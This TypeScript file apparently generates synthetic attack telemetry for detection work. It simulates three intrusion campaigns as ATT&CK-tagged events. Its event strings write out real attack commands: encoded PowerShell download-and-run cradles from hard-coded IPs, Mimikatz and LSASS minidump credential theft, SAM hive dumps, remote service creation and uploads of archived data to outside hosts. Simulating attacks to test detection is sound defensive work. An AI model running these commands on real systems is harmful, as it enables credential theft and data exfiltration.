/** Campaigns APT1–APT3: phishing macro + PsExec + RAR; masqueraded Teams updater + WMI + 7-Zip; MSI dropper + hive theft + sc. */
import { CLOUD_IPS, WEB_IPS } from './addresses';
import type { Kit } from './campaign-kit';
import { encodePs } from './encode';
import { logon, regEvent, serviceInstall, procCreate, spawn, type Proc } from './events';
import { IMG, teamsUpdate } from './images';
import { remoteExec, discoveryCommand } from './benign-admin';
import { explorerOf, outlookOf, servicesOf } from './parents';
import { domainUser, shortName, userSid } from './world';

/** What a campaign leaves for the beacon filler. */
export interface Foothold {
  implant: Proc;
  c2: string[];
  port: number;
}

/** Office document opened from Outlook (same path pattern as benign attachments). */
function maliciousDoc(k: Kit, ext: string): Proc {
  const h = k.victim;
  const app = ext.startsWith('.xls') ? IMG.excel : IMG.winword;
  const name = `${k.c.rng.choice(['Invoice', 'invoice', 'report', 'proposal', 'contract'])}_${k.c.rng.int(100, 9999)}${ext}`;
  return k.run(outlookOf(h, h.user, k.t), app, `"${app}" /n "C:\\Users\\${h.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${k.c.rng.hex(8).toUpperCase()}\\${name}" /o ""`, k.tag('initial-access', 'T1566.001 spearphishing attachment'));
}

/** Discovery burst of `n` commands under `shell` (the same command pool benign admins use). */
export function discover(k: Kit, shell: Proc, n: number, chained = false): void {
  const tag = k.tag('discovery', 'T1087/T1016/T1082 discovery');
  if (chained) {
    const cmds = Array.from({ length: n }, () => discoveryCommand(k.c, shortName(k.c.world.fs))[1]);
    k.run(shell, IMG.cmd, `cmd.exe /c "${cmds.join(' & ')}"`, tag);
    return;
  }
  for (let i = 0; i < n; i++) {
    const [img, cmd] = discoveryCommand(k.c, shortName(k.c.rng.choice(k.c.world.hosts)));
    const p = k.run(shell, img, cmd, tag);
    if (img === IMG.net) k.run(p, IMG.net1, cmd.replace(/^net /, 'C:\\Windows\\system32\\net1 '), tag);
  }
}

export function apt1(k: Kit): Foothold {
  const { c, victim: h } = k;
  const c2 = ['45.77.65.211', '45.77.65.212'];
  k.phase('initial');
  const doc = maliciousDoc(k, '.docm');
  const stager = `IEX (New-Object Net.WebClient).DownloadString('http://${c2[0]}/a')`;
  const ps = k.run(doc, IMG.powershell, `powershell.exe -nop -w hidden -enc ${encodePs(stager)}`, k.tag('execution', 'T1059.001 encoded powershell'));
  k.connect(ps, c2[0], 80, k.tag('command-and-control', 'T1105 stager download'));
  c.out.push(regEvent(k.pause(), ps, 13, `HKU\\${userSid(h.user)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate`, `powershell.exe -w hidden -enc ${encodePs(stager)}`, k.tag('persistence', 'T1547.001 run key')));
  k.phase('discovery');
  const sh = k.run(ps, IMG.cmd, 'cmd.exe', k.tag('execution', 'T1059.003 shell'));
  discover(k, sh, 6);
  k.phase('credential');
  k.run(ps, IMG.powershell, `powershell.exe -nop -enc ${encodePs("IEX (iwr http://45.77.65.211/m.ps1 -UseBasicParsing); Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'")}`, k.tag('credential-access', 'T1003.001 mimikatz'));
  k.phase('lateral');
  const adm = domainUser(c.world.admin);
  const px = k.run(sh, IMG.psexec, `PsExec64.exe \\\\FS01 -accepteula -s cmd /c "ipconfig /all"`, k.tag('lateral-movement', 'T1569.002 psexec'), adm);
  const remote = remoteExec(c, k.pause(), px, c.world.fs, 'psexec', 'cmd /c "dir D:\\Shares\\Finance /s"', k.tag('lateral-movement', 'T1021.002 admin share'));
  k.phase('exfil');
  const rar = k.run(remote, IMG.rar, `"${IMG.rar}" a -hp${c.rng.hex(10)} -r C:\\Windows\\Temp\\f${c.rng.int(1, 9)}.rar D:\\Shares\\Finance`, k.tag('collection', 'T1560.001 archive via utility'));
  const up = k.run(rar, IMG.powershell, `powershell.exe -c "Invoke-WebRequest -Uri https://${c2[1]}/up -Method POST -InFile C:\\Windows\\Temp\\f.rar"`, k.tag('exfiltration', 'T1041 exfil over C2'));
  for (let i = c.rng.int(3, 6); i > 0; i--) k.connect(up, c2[1], 443, k.tag('exfiltration', 'T1041 exfil over C2'));
  return { implant: ps, c2, port: 443 };
}

export function apt2(k: Kit): Foothold {
  const { c, victim: h } = k;
  const c2 = [WEB_IPS[5], WEB_IPS[17], WEB_IPS[30]]; // fronted through CDN addresses users also reach
  k.phase('initial');
  const doc = maliciousDoc(k, '.xlsm');
  const dl = k.run(doc, IMG.cmd, `cmd.exe /c curl.exe -s -k -o ${teamsUpdate(h.user)} https://${c2[0]}/t/u`, k.tag('initial-access', 'T1566.001 dropper'));
  const curl = k.run(dl, IMG.curl, `curl.exe -s -k -o ${teamsUpdate(h.user)} https://${c2[0]}/t/u`, k.tag('command-and-control', 'T1105 ingress tool transfer'));
  k.connect(curl, c2[0], 443, k.tag('command-and-control', 'T1105 ingress tool transfer'));
  const impl = k.run(explorerOf(h, h.user, k.t), teamsUpdate(h.user), `"${teamsUpdate(h.user)}" --processStart "Teams.exe"`, k.tag('execution', 'T1036.005 masquerading'));
  c.out.push(regEvent(k.pause(), impl, 13, `HKU\\${userSid(h.user)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\com.squirrel.Teams.Teams`, `${teamsUpdate(h.user)} --processStart "Teams.exe" --process-start-args "--system-initiated"`, k.tag('persistence', 'T1547.001 run key')));
  k.phase('discovery');
  discover(k, impl, 4, true);
  discover(k, impl, 2);
  k.phase('credential');
  const dump = `C:\\Users\\Public\\${c.rng.hex(6)}.bin`;
  k.run(impl, IMG.rundll32, `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${c.rng.int(600, 900)} ${dump} full`, k.tag('credential-access', 'T1003.001 comsvcs minidump'));
  k.run(impl, IMG.cmd, `cmd.exe /c del ${dump}`, k.tag('credential-access', 'T1070.004 cleanup'));
  k.phase('lateral');
  const ws2 = c.world.workstations.find((w) => w !== h) ?? h;
  const wm = k.run(impl, IMG.wmic, `wmic /node:${shortName(ws2)} process call create "powershell -nop -w hidden -c IEX(iwr https://${c2[1]}/s)"`, k.tag('lateral-movement', 'T1047 wmi'), domainUser(c.world.admin));
  const rp = remoteExec(c, k.pause(), wm, ws2, 'wmi', `powershell -nop -w hidden -c IEX(iwr https://${c2[1]}/s)`, k.tag('lateral-movement', 'T1047 wmi'));
  k.connect(rp, c2[1], 443, k.tag('command-and-control', 'T1071.001 web'));
  k.phase('exfil');
  const arc = `C:\\Users\\Public\\${c.rng.hex(4)}.7z`;
  k.run(rp, IMG.sevenZip, `"${IMG.sevenZip}" a -p${c.rng.hex(8)} ${arc} C:\\Users\\${ws2.user}\\Documents\\*`, k.tag('collection', 'T1560.001 archive via utility'));
  const up = k.run(rp, IMG.curl, `curl.exe -k -F "file=@${arc}" https://${CLOUD_IPS[3]}/u`, k.tag('exfiltration', 'T1567.002 exfil to cloud storage'));
  for (let i = c.rng.int(2, 5); i > 0; i--) k.connect(up, CLOUD_IPS[3], 443, k.tag('exfiltration', 'T1567.002 exfil to cloud storage'));
  return { implant: impl, c2, port: 443 };
}

export function apt3(k: Kit): Foothold {
  const { c, victim: h } = k;
  const c2 = ['91.219.236.18', CLOUD_IPS[9]];
  k.phase('initial');
  const msi = k.run(explorerOf(h, h.user, k.t), IMG.msiexec, `msiexec.exe /q /i http://${c2[0]}/pkg/update${c.rng.int(1, 9)}.msi`, k.tag('initial-access', 'T1218.007 msiexec'));
  k.connect(msi, c2[0], 80, k.tag('command-and-control', 'T1105 ingress tool transfer'));
  const dll = `C:\\ProgramData\\Microsoft\\Crypto\\${c.rng.hex(6)}.dll`;
  const impl = k.run(msi, IMG.rundll32, `rundll32.exe ${dll},DllRegisterServer`, k.tag('execution', 'T1218.011 rundll32'));
  c.out.push(serviceInstall(k.pause(), h, 'CryptSvcHelper', `C:\\Windows\\System32\\rundll32.exe ${dll},Start`, k.tag('persistence', 'T1543.003 service')));
  c.out.push(regEvent(k.pause(), servicesOf(h), 13, 'HKLM\\System\\CurrentControlSet\\Services\\CryptSvcHelper\\ImagePath', `C:\\Windows\\System32\\rundll32.exe ${dll},Start`, k.tag('persistence', 'T1543.003 service')));
  k.phase('discovery');
  const sh = k.run(impl, IMG.cmd, 'cmd.exe /Q /c', k.tag('execution', 'T1059.003 shell'));
  discover(k, sh, 7);
  k.phase('credential');
  for (const hive of ['sam', 'system', 'security']) k.run(sh, IMG.reg, `reg save hklm\\${hive} C:\\ProgramData\\${hive.slice(0, 2)}.hiv /y`, k.tag('credential-access', 'T1003.002 registry hive dump'));
  k.phase('lateral');
  const adm = c.world.admin;
  for (const dst of [c.world.dc, c.world.fs]) c.out.push(logon(k.pause(), dst, 3, h.ip, adm, k.tag('lateral-movement', 'T1078.002 domain account')));
  const scc = k.run(sh, IMG.sc, `sc \\\\FS01 create svcupd binPath= "cmd /c ${'powershell -nop -w hidden -c IEX(iwr http://' + c2[0] + '/b)'}" start= demand`, k.tag('lateral-movement', 'T1569.002 remote service'), domainUser(adm));
  c.out.push(serviceInstall(k.pause(), c.world.fs, 'svcupd', `cmd /c powershell -nop -w hidden -c IEX(iwr http://${c2[0]}/b)`, k.tag('lateral-movement', 'T1569.002 remote service')));
  const remote = spawn(c.rng, c.world.fs, 'NT AUTHORITY\\SYSTEM', IMG.cmd, `cmd /c powershell -nop -w hidden -c IEX(iwr http://${c2[0]}/b)`);
  c.out.push(procCreate(k.pause(), remote, servicesOf(c.world.fs), k.tag('lateral-movement', 'T1569.002 remote service')));
  void scc;
  k.phase('exfil');
  k.run(sh, IMG.certutil, 'certutil -encode C:\\ProgramData\\sa.hiv C:\\ProgramData\\sa.txt', k.tag('collection', 'T1132 data encoding'));
  const up = k.run(sh, IMG.powershell, `powershell.exe -c "[IO.File]::ReadAllText('C:\\ProgramData\\sa.txt') | Invoke-RestMethod -Uri https://${c2[1]}/api/v2/upload -Method Put"`, k.tag('exfiltration', 'T1567 exfil over web service'));
  for (let i = c.rng.int(2, 4); i > 0; i--) k.connect(up, c2[1], 443, k.tag('exfiltration', 'T1567 exfil over web service'));
  return { implant: impl, c2, port: 443 };
}
